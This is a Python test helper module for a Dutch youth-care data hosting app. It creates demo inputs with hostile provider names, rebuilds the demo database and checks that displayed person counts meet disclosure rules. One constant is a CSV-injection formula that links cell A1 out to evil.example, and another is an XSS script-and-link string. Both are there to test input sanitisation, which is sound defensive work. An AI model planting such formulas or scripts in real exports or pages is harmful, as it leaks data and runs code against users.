"""Helpers for the hosting tests (tests/test_hosting*.py, tests/e2e/test_hosted*.py): demo inputs
with hostile text in the data, another build of the demo, and what a person count looks like."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

from metrics import registry

# Aanbieder names as a hostile or careless export could carry them: a spreadsheet formula (CSV
# injection: a link that sends the cell next to it away), and HTML/Markdown that must show as text.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Klik hier")'
SCRIPT = "<script>alert('xss')</script> Zorg & **Co** [klik](http://evil.example) :red[rood]"
INJECTED = (FORMULA, SCRIPT)


def injected_inputs(demo_inputs: Path, out: Path, *, names=INJECTED) -> Path:
    """A copy of the demo raw files in which the two largest aanbieders carry `names`; returns
    its inputs.toml. Only the toewijzingen file is rewritten (the others are linked)."""
    src = demo_inputs.parent
    shutil.copytree(src, out, copy_function=_link)
    path = out / "jeugd" / "toewijzingen.csv"
    path.unlink()
    with open(src / "jeugd" / "toewijzingen.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    counts: dict[str, int] = {}
    for r in rows:
        counts[r["aanbieder_agb"]] = counts.get(r["aanbieder_agb"], 0) + 1
    largest = sorted(counts, key=counts.get, reverse=True)[: len(names)]
    rename = dict(zip(largest, names))
    for r in rows:
        if r["aanbieder_agb"] in rename:
            r["aanbieder_naam"] = rename[r["aanbieder_agb"]]
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return out / demo_inputs.name


def _link(src: str, dst: str) -> None:
    try:
        Path(dst).hardlink_to(src)
    except OSError:
        shutil.copy2(src, dst)


def build(inputs_toml: Path, db: Path) -> Path:
    from data_sources import inputs
    from data_sources.build import build as run_build

    run_build(inputs.load(inputs_toml), db, progress=lambda msg: None)
    return db


# ---- person counts ---------------------------------------------------------------------------

PERSON_METRICS = [m for m in registry.METRICS.values() if m.disclosure == "persons"]
PERSON_LABELS = tuple(sorted({m.label for m in PERSON_METRICS}, key=len, reverse=True))
PERSON_DESCRIPTIONS = tuple(m.description for m in PERSON_METRICS)
_COUNT = re.compile(r"\d{1,3}(\.\d{3})*")


def count(text: str) -> int | None:
    """A count as the page shows it ("1.863", "10"), or None for other text (geheim, euros, %)."""
    text = str(text).strip()
    return int(text.replace(".", "")) if _COUNT.fullmatch(text) else None


def protected_count_problem(text) -> str | None:
    """Why a shown person count breaks disclosure control (None when it is fine): it must be
    'geheim', or a multiple of 5 of at least 10. Empty cells ('–') say nothing."""
    text = str(text).strip()
    if text in ("geheim", "–", "", "None", "nan"):
        return None
    n = count(text)
    if n is None:
        return f"{text!r} is no count"
    if n % 5 or n < 10:
        return f"person count {text} shown"
    return None
